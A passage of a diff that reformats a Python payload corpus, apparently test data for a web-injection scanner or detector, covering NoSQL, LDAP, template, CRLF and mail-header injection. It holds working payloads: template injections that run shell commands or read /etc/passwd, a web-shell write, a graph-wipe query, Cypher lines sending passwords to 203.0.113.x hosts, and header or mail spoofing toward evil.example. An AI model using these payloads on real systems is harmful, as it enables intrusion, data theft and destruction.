     A('{"selector":{"_id":{"$gt":null}},"limit":10000}', "json", jobj=True, ep="/userdb/_find", doc=MARK),
     A("* OR _exists_:password", "query", param="q", ep="/api/search"),
-    A("' OR 1=1 WITH 1 as a CALL dbms.components() YIELD name RETURN name //", "query", param="name", ep="/api/graph/people"),
+    A(
+        "' OR 1=1 WITH 1 as a CALL dbms.components() YIELD name RETURN name //",
+        "query",
+        param="name",
+        ep="/api/graph/people",
+    ),
     A("'}) MATCH (n) DETACH DELETE n //", "form", param="title", ep="/api/graph/nodes"),
-    A("' LOAD CSV FROM 'http://203.0.113.5/'+n.password AS y RETURN ''//", "json", param="name", ep="/api/graph/people"),
+    A(
+        "' LOAD CSV FROM 'http://203.0.113.5/'+n.password AS y RETURN ''//",
+        "json",
+        param="name",
+        ep="/api/graph/people",
+    ),
     A("x' || 1==1 RETURN doc //", "query", param="key", ep="/_db/app/api/items"),
-    A('{"ComparisonOperator":"GT","AttributeValueList":[{"S":"*"}]}', "json", jobj=True, param="password", ep="/api/auth/login"),
+    A(
+        '{"ComparisonOperator":"GT","AttributeValueList":[{"S":"*"}]}',
+        "json",
+        jobj=True,
+        param="password",
+        ep="/api/auth/login",
+    ),
     A("user[$regex]", "query_key", kval=".*", ep="/api/v1/users/search"),
     A("filter[role][$ne]", "query_key", kval="user", ep="/api/accounts/lookup"),
-    A('{ products(where: "{\\"price\\": {\\"$gt\\": 0}, \\"$where\\": \\"sleep(2000)\\"}") { id name } }', "json", ep="/graphql", doc={"query": MARK}),
+    A(
+        '{ products(where: "{\\"price\\": {\\"$gt\\": 0}, \\"$where\\": \\"sleep(2000)\\"}") { id name } }',
+        "json",
+        ep="/graphql",
+        doc={"query": MARK},
+    ),
     A('{"$regex":".*","$options":"si"}', "json", jobj=True, param="email"),
-    A('[{"$group":{"_id":null,"x":{"$accumulator":{"init":"function(){ sleep(5000); return 0 }","accumulate":"function(s){return s}","accumulateArgs":["$a"],"merge":"function(a){return a}","lang":"js"}}}}]',
-      "json", jobj=True, param="pipeline", ep="/api/reports/aggregate"),
+    A(
+        '[{"$group":{"_id":null,"x":{"$accumulator":{"init":"function(){ sleep(5000); return 0 }","accumulate":"function(s){return s}","accumulateArgs":["$a"],"merge":"function(a){return a}","lang":"js"}}}}]',
+        "json",
+        jobj=True,
+        param="pipeline",
+        ep="/api/reports/aggregate",
+    ),
     A('{"$elemMatch":{"role":"admin"}}', "json", jobj=True, param="roles"),
     A('{"$comment":"x","$ne":"a"}', "json", jobj=True, param="token", ep="/api/sessions"),
     A('{"$gt": ""}', "multipart", mp="field", param="password", ep="/api/auth/login"),
@@ -1534,32 +2492,87 @@ NOSQLI = [
     # ---- hard
     A('{"$ne":"x"}', "json", 1, jobj=True, rj=True, ep="/api/auth/login", doc={"username": "admin", "password": MARK}),
     A("$where", "json_key", 1, doc={"query": {"filter": {"meta": {"tags": {KMARK: "sleep(3000)"}}}}}),
-    A("$regex", "json_key", 1, ep="/api/v1/users/search", doc={"criteria": {"and": [{"field": {"email": {KMARK: "^admin@", "$options": "i"}}}]}}),
+    A(
+        "$regex",
+        "json_key",
+        1,
+        ep="/api/v1/users/search",
+        doc={"criteria": {"and": [{"field": {"email": {KMARK: "^admin@", "$options": "i"}}}]}},
+    ),
     A("filter[password][$regex]", "query_key", 1, kval="^p", mode="full", ep="/api/accounts/lookup"),
     A("user[$nin][]", "form", 1, key=True, kval="nobody", ep="/login"),
-    A('{"$where":"(function(){var d=new Date();do{var c=new Date();}while(c-d<3000);return true;})()"}', "json", 1, jobj=True, param="filter"),
+    A(
+        '{"$where":"(function(){var d=new Date();do{var c=new Date();}while(c-d<3000);return true;})()"}',
+        "json",
+        1,
+        jobj=True,
+        param="filter",
+    ),
     A("'||this.constructor.constructor('return sleep(2000)')()||'", "query", 1, param="q"),
     A('{"$regex":"^\\\\u0061dm"}', "json", 1, jobj=True, param="username"),
     A('{"$or":[{"role":"admin"},{"$where":"1==1"}]}', "json", 1, param="filter", deep=2),
     A('j:{"$ne":null}', "cookie", 1, ck="auth"),
     A("'/**/OR/**/1=1/**/RETURN/**/n//", "query", 1, param="name", ep="/api/graph/people"),
-    A("' OR 1=1 WITH 1 AS x CALL apoc.load.json('http://203.0.113.9/'+x) YIELD value RETURN value //", "form", 1, param="name",
-      ep="/api/graph/people"),
+    A(
+        "' OR 1=1 WITH 1 AS x CALL apoc.load.json('http://203.0.113.9/'+x) YIELD value RETURN value //",
+        "form",
+        1,
+        param="name",
+        ep="/api/graph/people",
+    ),
     A("\\u0027 OR 1=1 RETURN n //", "json", 1, param="title", ep="/api/graph/nodes"),
-    A('{"$function":{"body":"function(){return eval(atob(\'c2xlZXAoMzAwMCk=\'))}","args":[],"lang":"js"}}', "json", 1, jobj=True, param="score"),
-    A('{"$ne":"wrong"}', "json", 1, jobj=True, ep="/graphql",
-      doc={"query": "query Login($u: JSON, $p: JSON) { login(username: $u, password: $p) { token } }", "variables": {"u": "admin", "p": MARK}}),
+    A(
+        '{"$function":{"body":"function(){return eval(atob(\'c2xlZXAoMzAwMCk=\'))}","args":[],"lang":"js"}}',
+        "json",
+        1,
+        jobj=True,
+        param="score",
+    ),
+    A(
+        '{"$ne":"wrong"}',
+        "json",
+        1,
+        jobj=True,
+        ep="/graphql",
+        doc={
+            "query": "query Login($u: JSON, $p: JSON) { login(username: $u, password: $p) { token } }",
+            "variables": {"u": "admin", "p": MARK},
+        },
+    ),
     A("username[$gt]", "query_key", 1, kval="", mode="mixed", ep="/api/auth/login"),
     A("true, $where: '1 == 1'", "query", 1, param="active"),
     A('[{"$match":{}},{"$out":"users"}]', "json", 1, jobj=True, param="pipeline", ep="/api/reports/aggregate"),
-    A('[{"$lookup":{"from":"admins","pipeline":[{"$match":{}}],"as":"x"}}]', "json", 1, jobj=True, param="stages", deep=2),
-    A('{"query":{"script":{"script":"doc[\'password\'].value.startsWith(\'a\')"}}}', "json", 1, param="raw_query", ep="/api/search"),
+    A(
+        '[{"$lookup":{"from":"admins","pipeline":[{"$match":{}}],"as":"x"}}]',
+        "json",
+        1,
+        jobj=True,
+        param="stages",
+        deep=2,
+    ),
+    A(
+        '{"query":{"script":{"script":"doc[\'password\'].value.startsWith(\'a\')"}}}',
+        "json",
+        1,
+        param="raw_query",
+        ep="/api/search",
+    ),
 ]
 
 # ---------------------------------------------------------------- ldapi
 CTX["ldapi"] = dict(
-    eps=["/login", "/api/directory/search", "/people", "/auth/ldap", "/api/v1/users/lookup", "/address-book", "/sso/login", "/admin/groups"],
-    params=["user", "username", "uid", "cn", "q", "search", "mail", "group", "name", "dept"])
+    eps=[
+        "/login",
+        "/api/directory/search",
+        "/people",
+        "/auth/ldap",
+        "/api/v1/users/lookup",
+        "/address-book",
+        "/sso/login",
+        "/admin/groups",
+    ],
+    params=["user", "username", "uid", "cn", "q", "search", "mail", "group", "name", "dept"],
+)
 
 LDAPI = [
     A("*)(uid=*))(|(uid=*", "form", param="username", ep="/auth/ldap"),
@@ -1617,93 +2630,251 @@ LDAPI = [
 
 # ---------------------------------------------------------------- ssti
 CTX["ssti"] = dict(
-    eps=["/greeting", "/api/v1/templates/preview", "/newsletter/preview", "/profile", "/api/notifications/render", "/invoice/preview",
-         "/cms/blocks/render", "/api/email/test", "/share", "/api/reports/title"],
-    params=["name", "template", "subject", "message", "title", "greeting", "body", "content", "footer", "q"])
+    eps=[
+        "/greeting",
+        "/api/v1/templates/preview",
+        "/newsletter/preview",
+        "/profile",
+        "/api/notifications/render",
+        "/invoice/preview",
+        "/cms/blocks/render",
+        "/api/email/test",
+        "/share",
+        "/api/reports/title",
+    ],
+    params=["name", "template", "subject", "message", "title", "greeting", "body", "content", "footer", "q"],
+)
 
 SSTI = [
     A("{{7*'7'}}", "query", param="name"),
     A("{=system('id')}", "query", param="q", ep="/share"),
-    A("<%~ it.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') %>", "form", param="message"),
+    A(
+        "<%~ it.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') %>",
+        "form",
+        param="message",
+    ),
     A("{{cycler.__init__.__globals__.os.popen('id').read()}}", "json", param="subject"),
     A("{{= global.process.mainModule.require('child_process').execSync('whoami') }}", "query", param="greeting"),
-    A("{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
-      "form", param="content"),
+    A(
+        "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
+        "form",
+        param="content",
+    ),
     A('{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', "query", param="title"),
     A("{{['id']|filter('system')}}", "json", param="footer"),
     A("<%- global.process.mainModule.require('child_process').execSync('cat /etc/hostname') %>", "form", param="body"),
-    A('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "json", param="template", ep="/api/v1/templates/preview"),
-    A("<%= global.process.mainModule.constructor._load('child_process').execSync('ls /') %>", "query", param="subject", ep="/api/email/test"),
+    A(
+        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
+        "json",
+        param="template",
+        ep="/api/v1/templates/preview",
+    ),
+    A(
+        "<%= global.process.mainModule.constructor._load('child_process').execSync('ls /') %>",
+        "query",
+        param="subject",
+        ep="/api/email/test",
+    ),
     A('#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x', "form", param="template"),
     A("{system('id')}", "query", param="name"),
-    A("{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}", "form", param="footer"),
+    A(
+        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
+        "form",
+        param="footer",
+    ),
     A('${self.module.cache.util.os.system("id")}', "json", param="title"),
     A("#import os\n$os.popen('id').read()", "multipart", mp="field", param="template", ep="/api/v1/templates/preview"),
     A("<%= `id` %>", "query", param="message"),
     A("#{%x(cat /etc/passwd)}", "json", param="body", deep=2),
-    A("#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}", "form", param="name"),
-    A("{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "json", param="greeting"),
+    A(
+        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
+        "form",
+        param="name",
+    ),
+    A(
+        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
+        "json",
+        param="greeting",
+    ),
     A('{% import os %}{{ os.popen("id").read() }}', "query", param="content"),
     A("{!! shell_exec('id') !!}", "json", param="signature", ep="/api/email/test"),
     A('@System.Diagnostics.Process.Start("cmd.exe","/c whoami")', "form", param="message"),
     A("[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", "json", param="title"),
     A('__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x', "path", pre="/doc/", ep="/doc"),
-    A("{% set cmd = 'id' %}{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec(cmd) }}", "json", param="template"),
-    A("{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval('new java.lang.ProcessBuilder([\"id\"]).start()')}}",
-      "form", param="email_body", ep="/newsletter/preview"),
-    A('{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}'
-      '{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}'
-      '{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}', "json", param="body",
-      ep="/api/notifications/render"),
+    A(
+        "{% set cmd = 'id' %}{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec(cmd) }}",
+        "json",
+        param="template",
+    ),
+    A(
+        "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval('new java.lang.ProcessBuilder([\"id\"]).start()')}}",
+        "form",
+        param="email_body",
+        ep="/newsletter/preview",
+    ),
+    A(
+        '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}'
+        "{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
+        "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
+        "json",
+        param="body",
+        ep="/api/notifications/render",
+    ),
     A('{{ printf "%s" .Config.DatabasePassword }}', "query", param="title", ep="/api/reports/title"),
     A("{% include '/etc/passwd' %}", "json", param="content", ep="/cms/blocks/render"),
     # ---- hard
-    A("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')"
-      "|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}", "query", 1, param="name"),
+    A(
+        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')"
+        "|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
+        "query",
+        1,
+        param="name",
+    ),
     A("{{()|attr('__class__')|attr('__base__')|attr('__subclasses__')()}}", "form", 1, param="message"),
-    A('{%print(lipsum|attr("__globals__"))|attr("get")("os")|attr("popen")("id")|attr("read")()%}', "json", 1, param="subject"),
-    A("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}", "query", 1, param="greeting"),
-    A("{{''[request.args.a][request.args.b][2][request.args.c]()}}", "query", 1, ep="/greeting",
-      qs=[("name", MARK), ("a", "__class__"), ("b", "__mro__"), ("c", "__subclasses__")]),
-    A("{{''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]}}", "cookie", 1, ck="display_name", ep="/profile"),
-    A("{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}", "json", 1, param="footer", deep=4),
-    A('{%with a=request["application"]["\\x5f\\x5fglobals\\x5f\\x5f"]["\\x5f\\x5fbuiltins\\x5f\\x5f"]["\\x5f\\x5fimport\\x5f\\x5f"]("os")["popen"]("id")["read"]()%}{{a}}{%endwith%}',
-      "form", 1, param="title"),
-    A("${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}",
-      "json", 1, param="description", ep="/api/v1/templates/preview"),
-    A('<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("freemarker.template.ObjectWrapper")>'
-      '<#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)><#assign ec=classloader.loadClass("freemarker.template.utility.Execute")>${dwf.newInstance(ec,null)("id")}',
-      "multipart", 1, mp="file", fname="invoice.ftl", fctype="text/plain", field="template", ep="/api/v1/templates/upload"),
-    A('#set( $rt = $x.class.forName( "java.lang.Runtime" ) )\n#set( $p = $rt.getRuntime().exec( "id" ) )\n$p.waitFor()', "form", 1, param="body"),
+    A(
+        '{%print(lipsum|attr("__globals__"))|attr("get")("os")|attr("popen")("id")|attr("read")()%}',
+        "json",
+        1,
+        param="subject",
+    ),
+    A(
+        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
+        "query",
+        1,
+        param="greeting",
+    ),
+    A(
+        "{{''[request.args.a][request.args.b][2][request.args.c]()}}",
+        "query",
+        1,
+        ep="/greeting",
+        qs=[("name", MARK), ("a", "__class__"), ("b", "__mro__"), ("c", "__subclasses__")],
+    ),
+    A(
+        "{{''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]}}",
+        "cookie",
+        1,
+        ck="display_name",
+        ep="/profile",
+    ),
+    A(
+        "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
+        "json",
+        1,
+        param="footer",
+        deep=4,
+    ),
+    A(
+        '{%with a=request["application"]["\\x5f\\x5fglobals\\x5f\\x5f"]["\\x5f\\x5fbuiltins\\x5f\\x5f"]["\\x5f\\x5fimport\\x5f\\x5f"]("os")["popen"]("id")["read"]()%}{{a}}{%endwith%}',
+        "form",
+        1,
+        param="title",
+    ),
+    A(
+        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}",
+        "json",
+        1,
+        param="description",
+        ep="/api/v1/templates/preview",
+    ),
+    A(
+        '<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("freemarker.template.ObjectWrapper")>'
+        '<#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)><#assign ec=classloader.loadClass("freemarker.template.utility.Execute")>${dwf.newInstance(ec,null)("id")}',
+        "multipart",
+        1,
+        mp="file",
+        fname="invoice.ftl",
+        fctype="text/plain",
+        field="template",
+        ep="/api/v1/templates/upload",
+    ),
+    A(
+        '#set( $rt = $x.class.forName( "java.lang.Runtime" ) )\n#set( $p = $rt.getRuntime().exec( "id" ) )\n$p.waitFor()',
+        "form",
+        1,
+        param="body",
+    ),
     A("{if system('id')}{/if}", "query", 1, param="footer"),
     A("{{['id',\"\"]|sort('passthru')}}", "json", 1, param="content"),
-    A("#{global['proc'+'ess']['mainModule']['require']('child_'+'process')['execSync']('id')}", "form", 1, param="name"),
-    A("{{ ''.constructor.constructor('return this')()['\\x70rocess'].mainModule.require('child_process').execSync('id') }}", "json", 1, param="greeting"),
-    A('{{"\\x3cscript\\x3ealert(document.domain)\\x3c/script\\x3e"}}', "query", 1, param="title", ep="/api/reports/title"),
-    A('@{ var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("c"+"md","/c whoami")); }', "json", 1, param="message"),
+    A(
+        "#{global['proc'+'ess']['mainModule']['require']('child_'+'process')['execSync']('id')}",
+        "form",
+        1,
+        param="name",
+    ),
+    A(
+        "{{ ''.constructor.constructor('return this')()['\\x70rocess'].mainModule.require('child_process').execSync('id') }}",
+        "json",
+        1,
+        param="greeting",
+    ),
+    A(
+        '{{"\\x3cscript\\x3ealert(document.domain)\\x3c/script\\x3e"}}',
+        "query",
+        1,
+        param="title",
+        ep="/api/reports/title",
+    ),
+    A(
+        '@{ var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("c"+"md","/c whoami")); }',
+        "json",
+        1,
+        param="message",
+    ),
     A('<%\nx=__import__("o"+"s")\n%>${x.popen("id").read()}', "multipart", 1, mp="field", param="content"),
     A("%7B%7B7*7%7D%7D", "query", 1, param="q"),
-    A("*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100))).getInputStream())}",
-      "xml", 1, param="title", ep="/api/legacy/render"),
+    A(
+        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100))).getInputStream())}",
+        "xml",
+        1,
+        param="title",
+        ep="/api/legacy/render",
+    ),
 ]
 
 # ---------------------------------------------------------------- crlf
 CTX["crlf"] = dict(
-    eps=["/redirect", "/set-language", "/api/v1/download", "/logout", "/track", "/login", "/r", "/go", "/export", "/i18n/switch"],
-    params=["url", "lang", "next", "return", "file", "redirect_uri", "ref", "continue", "callback", "name"])
+    eps=[
+        "/redirect",
+        "/set-language",
+        "/api/v1/download",
+        "/logout",
+        "/track",
+        "/login",
+        "/r",
+        "/go",
+        "/export",
+        "/i18n/switch",
+    ],
+    params=["url", "lang", "next", "return", "file", "redirect_uri", "ref", "continue", "callback", "name"],
+)
 
 CRLF = [
     A("en\r\nSet-Cookie: sessionid=attacker123", "query", param="lang", ep="/set-language"),
     A("/home\r\nLocation: https://evil.example/", "query", param="next", ep="/login"),
     A("\r\nSet-Cookie:admin=true", "path", pre="/r/", ep="/r"),
-    A("report.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", "query", param="file", ep="/api/v1/download"),
+    A(
+        "report.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
+        "query",
+        param="file",
+        ep="/api/v1/download",
+    ),
     A("https://shop.example.com/\r\nRefresh: 0; url=https://evil.example/", "query", param="return", ep="/logout"),
-    A("\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>", "query", param="url",
-      ep="/redirect"),
+    A(
+        "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>",
+        "query",
+        param="url",
+        ep="/redirect",
+    ),
     A("export.xlsx\nSet-Cookie: tracking=1", "form", param="filename", ep="/export"),
     A("de\r\nAccess-Control-Allow-Origin: https://evil.example", "cookie", ck="lang", ep="/i18n/switch"),
     A("https://app.example.com/cb\r\nX-Injected: 1", "json", param="redirect_uri", ep="/api/oauth/clients"),
-    A("\r\n\r\n<html><body>Session expired, log in at https://evil.example</body></html>", "query", param="continue", ep="/go"),
+    A(
+        "\r\n\r\n<html><body>Session expired, log in at https://evil.example</body></html>",
+        "query",
+        param="continue",
+        ep="/go",
+    ),
     A("utf-8\r\nX-XSS-Protection: 0", "query", param="charset", ep="/export"),
     A("/dashboard\r\nSet-Cookie: csrftoken=fixed; Path=/", "form", param="next", ep="/login"),
     A("admin\r\n[2026-12-07 23:41:02] INFO login succeeded user=root", "form", param="username", ep="/login"),
@@ -1711,13 +2882,24 @@ CRLF = [
     A("10.0.0.1%0d%0aX-Admin:%20true", "header", hdr="X-Forwarded-For", ep="/admin/"),
     A("session:1\r\nSET pwn 1\r\n", "json", param="cache_key", ep="/api/cache/purge"),
     A("key1\r\nflush_all\r\n", "query", param="key", ep="/api/cache/get"),
-    A("attachment.pdf\r\nContent-Disposition: inline", "multipart", mp="field", param="download_name", ep="/api/v1/files"),
+    A(
+        "attachment.pdf\r\nContent-Disposition: inline",
+        "multipart",
+        mp="field",
+        param="download_name",
+        ep="/api/v1/files",
+    ),
     A("\nLocation: javascript:alert(1)", "query", param="url", ep="/redirect"),
     A("?\r\nLink: <https://evil.example/s.css>; rel=stylesheet", "query", param="ref", ep="/track"),
     A("\r\nContent-Security-Policy: default-src *", "query", param="callback", ep="/api/jsonp"),
     A("invoice.pdf\r\nX-Accel-Redirect: /internal/secrets", "xml", param="filename", ep="/api/legacy/download"),
     A("0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n", "query", param="path", ep="/api/proxy"),
-    A("https://cdn.example.com/img.png HTTP/1.1\r\nX-Injected: 1\r\nFoo: ", "json", param="image_url", ep="/api/v2/avatar"),
+    A(
+        "https://cdn.example.com/img.png HTTP/1.1\r\nX-Injected: 1\r\nFoo: ",
+        "json",
+        param="image_url",
+        ep="/api/v2/avatar",
+    ),
     A("inline\r\nSet-Cookie: role=admin", "query", param="disposition", ep="/api/v1/download"),
     A("text/html\r\n\r\n<svg onload=alert(1)>", "query", param="type", ep="/api/v1/download"),
     A("%0D%0ASet-Cookie:%20sid=0", "header", hdr="X-Request-Id", ep="/api/v1/status"),
@@ -1734,7 +2916,13 @@ CRLF = [
     A("https://shop.example.com/%0D%0A%20X-Injected:%20folded", "header", 1, hdr="Referer", ep="/track"),
     A("en\u0085Set-Cookie: nel=1", "query", 1, param="locale"),
     A("\u010d\u010aSet-Cookie: latin=1", "query", 1, param="continue"),
-    A("https://app.example.com/done\r\nSet-Cookie: u=1", "json", 1, param="returnUrl", rjrep=[("\\r\\n", "\\u000d\\u000a")]),
+    A(
+        "https://app.example.com/done\r\nSet-Cookie: u=1",
+        "json",
+        1,
+        param="returnUrl",
+        rjrep=[("\\r\\n", "\\u000d\\u000a")],
+    ),
     A("%0dX-Inj:1", "path", 1, pre="/r/", ep="/r"),
     A('{"X-Trace":"abc\\r\\nSet-Cookie: j=1"}', "json", 1, param="headers", ep="/api/webhooks/test"),
     A("en\u2028Set-Cookie: ls=1", "json", 1, param="locale", rjrep=[("\u2028", "\\u2028")]),
@@ -1743,36 +2931,78 @@ CRLF = [
     A("&#13;&#10;Set-Cookie: ent=1", "query", 1, param="file"),
     A("en\\x0d\\x0aSet-Cookie: bs=1", "query", 1, param="lang"),
     A("%c0%8d%c0%8aSet-Cookie: ovl=1", "query", 1, param="url"),
-    A('mutation { setLocale(locale: "en\\r\\nSet-Cookie: gql=1") { ok } }', "json", 1, ep="/graphql", doc={"query": MARK}),
+    A(
+        'mutation { setLocale(locale: "en\\r\\nSet-Cookie: gql=1") { ok } }',
+        "json",
+        1,
+        ep="/graphql",
+        doc={"query": MARK},
+    ),
     A("/home%E5%98%8A%E5%98%8DLocation:%20https://evil.example", "cookie", 1, ck="return_path", ep="/login"),
 ]
 
 # ---------------------------------------------------------------- mail injection
 CTX["mail_injection"] = dict(
-    eps=["/contact", "/api/v1/share/email", "/newsletter/subscribe", "/support/ticket", "/invite", "/password/forgot", "/api/mail/send",
-         "/feedback", "/api/referrals", "/careers/apply"],
-    params=["email", "to", "from", "subject", "name", "reply_to", "cc", "message", "recipient", "sender"])
+    eps=[
+        "/contact",
+        "/api/v1/share/email",
+        "/newsletter/subscribe",
+        "/support/ticket",
+        "/invite",
+        "/password/forgot",
+        "/api/mail/send",
+        "/feedback",
+        "/api/referrals",
+        "/careers/apply",
+    ],
+    params=["email", "to", "from", "subject", "name", "reply_to", "cc", "message", "recipient", "sender"],
+)
 
 _ew = base64.b64encode(b"x\r\nBcc: b64@evil.example").decode()
 
 MAIL = [
-    A("victim@example.com\r\nBcc: list1@spam.example,list2@spam.example", "form", ep="/contact",
-      fields=[("name", "Jane"), ("email", MARK), ("subject", "Question"), ("message", "Hi there")]),
+    A(
+        "victim@example.com\r\nBcc: list1@spam.example,list2@spam.example",
+        "form",
+        ep="/contact",
+        fields=[("name", "Jane"), ("email", MARK), ("subject", "Question"), ("message", "Hi there")],
+    ),
     A("Hello\r\nBcc: leak@attacker.example", "form", param="subject", ep="/contact"),
     A("x@example.com\nCc: everyone@corp.example", "json", param="to", ep="/api/v1/share/email"),
-    A('John\r\nContent-Type: text/html\r\n\r\n<a href="https://evil.example">Verify your account</a>', "form", param="name", ep="/feedback"),
+    A(
+        'John\r\nContent-Type: text/html\r\n\r\n<a href="https://evil.example">Verify your account</a>',
+        "form",
+        param="name",
+        ep="/feedback",
+    ),
     A("a@example.org\r\nFrom: ceo@northwind.test", "json", param="reply_to", ep="/api/mail/send"),
     A("support@example.com>\r\nRCPT TO:<victim@corp.example>", "json", param="sender", ep="/api/mail/send"),
-    A("me@example.com\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n.\r\nQUIT", "form", param="email", ep="/newsletter/subscribe"),
+    A(
+        "me@example.com\r\nDATA\r\nSubject: hi\r\n\r\nspam\r\n.\r\nQUIT",
+        "form",
+        param="email",
+        ep="/newsletter/subscribe",
+    ),
     A('"attacker\\" -oQ/tmp/ -X/var/www/html/log.php some"@example.com', "form", param="email", ep="/contact"),
     A("-OQueueDirectory=/tmp -X/var/www/html/cache/x.php", "form", param="sender", ep="/contact"),
     A("INBOX\r\nA002 DELETE INBOX", "query", param="mailbox", ep="/webmail/list"),
-    A("1\r\nA7 LIST \"\" *", "query", param="uid", ep="/webmail/message"),
+    A('1\r\nA7 LIST "" *', "query", param="uid", ep="/webmail/message"),
     A("victim@example.com,attacker@evil.example", "json", param="email", ep="/password/forgot"),
     A("Subject line\r\nX-Mailer: spoof\r\nReply-To: phish@evil.example", "json", param="subject", ep="/api/mail/send"),
     A("noreply@example.com\r\nSender: security@bankofexample.test", "form", param="from", ep="/api/mail/send"),
-    A("feedback\r\n\r\nThis is an injected body.\r\n.\r\n", "multipart", mp="field", param="subject", ep="/support/ticket"),
-    A("user@example.com\r\nBcc: a@spam.example\r\nBcc: b@spam.example", "query", param="email", ep="/newsletter/subscribe"),
+    A(
+        "feedback\r\n\r\nThis is an injected body.\r\n.\r\n",
+        "multipart",
+        mp="field",
+        param="subject",
+        ep="/support/ticket",
+    ),
+    A(
+        "user@example.com\r\nBcc: a@spam.example\r\nBcc: b@spam.example",
+        "query",
+        param="email",
+        ep="/newsletter/subscribe",
+    ),
     A("Bob <bob@example.com>\r\nTo: all-staff@corp.example", "json", param="name", ep="/invite"),
     A("alice@example.com>\r\nMAIL FROM:<spoof@bank.example>", "xml", param="email", ep="/api/legacy/notify"),
     A("x@y.com\r\nContent-Transfer-Encoding: base64", "form", param="reply_to", ep="/contact"),
@@ -1780,8 +3010,12 @@ MAIL = [
     A("victim@example.com\r\nReply-To: attacker@evil.example", "query", param="email", ep="/password/forgot"),
     A("test@example.com\nX-Priority: 1\nImportance: high", "form", param="cc", ep="/api/v1/share/email"),
     A("Invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XYZ", "json", param="subject", deep=2),
-    A('mutation { shareArticle(id: 42, to: "friend@example.net\\r\\nBcc: harvest@evil.example") { ok } }', "json", ep="/graphql",
-      doc={"query": MARK}),
+    A(
